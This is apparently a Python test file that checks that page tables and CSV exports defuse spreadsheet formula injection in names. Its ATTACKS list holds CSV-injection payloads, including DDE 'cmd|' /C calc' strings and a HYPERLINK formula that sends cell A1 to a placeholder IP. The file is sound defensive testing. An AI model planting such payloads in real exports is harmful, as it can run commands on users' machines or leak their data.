"""Tables that a page or an export hands to a spreadsheet: no name of a joint, a robot or a log becomes a formula."""

import base64
import csv
import gzip
import io
import re

import numpy as np
import pytest
from hypothesis import given, strategies as st

from agent.core import csv_text
from agent.pages.elements import Page, Section, Table, render
from agent.pages.plots import Panel, Plot, Series
from agent.pages.scene import Scene

ATTACKS = [
    "=1+1",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    '@SUM(1)*cmd|"/C calc"!A0',
    "\t=1+1",
    "\r\n=1+1",
    " =1+1",
    "＝1+1",
    "joint;=1+1",
    "joint\n=1+1",
    '=HYPERLINK("http://192.0.2.1/"&A1,"more")',
]
LIVE = re.compile(r"^\s*[=+\-@＝＋－＠]")


def _cells(text: str) -> list[str]:
    """What spreadsheets see: separated by commas, or by semicolons as they are where a comma is the decimal sign."""
    cells = [cell for row in csv.reader(io.StringIO(text)) for cell in row]
    return [part for cell in cells for part in re.split(r"[;\t\n]", cell)]


def _tables(html: str) -> list[str]:
    plain = re.findall(r"data:text/csv;base64,([A-Za-z0-9+/=]+)", html)
    packed = re.findall(r"data:application/gzip;base64,([A-Za-z0-9+/=]+)", html)
    data = [base64.b64decode(one) for one in plain] + [gzip.decompress(base64.b64decode(one)) for one in packed]
    return [one.decode() for one in data]


@pytest.mark.parametrize("name", ATTACKS)
def test_names_are_not_formulas_in_page_tables(name: str):
    values = np.array([-1.5, 2.0, -0.25])
    parts = [
        Table("t", [name, "value"], [[name, "-1.5"], ["joint_2", name]]),
        Plot(
            "p", "l", "s", [Panel(name, "N", [Series(name, values)]), Panel("b", "N", [Series("x", values)])], x=values
        ),
        Scene("s", "l", {name: np.zeros((2, 3))}),
    ]
    tables = _tables(render(Page("p", "h", "plain", [Section("s", parts=parts)])))
    assert len(tables) == len(parts)
    for text in tables:
        assert [cell for cell in _cells(text) if LIVE.match(cell) and not _is_number(cell)] == []
        assert re.search(r"-1\.5|0\.0000", text), "numbers stay numbers"


def _is_number(cell: str) -> bool:
    try:
        return bool(np.isfinite(float(cell)))
    except ValueError:
        return cell == "-"


@given(st.lists(st.lists(st.text(st.sampled_from("=+-@;,\"'\t\r\n 1a＝"), max_size=6), min_size=2, max_size=3)))
def test_texts_are_not_formulas_in_spreadsheets(rows: list[list[str]]):
    text = csv_text(rows)
    assert [cell for cell in _cells(text) if LIVE.match(cell) and not _is_number(cell)] == []
    assert text.count("\n") == len(rows), "a line is a row"


@given(st.lists(st.lists(st.floats(), min_size=2, max_size=3)))
def test_numbers_are_unchanged_in_tables(rows: list[list[float]]):
    read = [[float(cell) for cell in row] for row in csv.reader(io.StringIO(csv_text(rows)))]
    np.testing.assert_equal(read, rows)
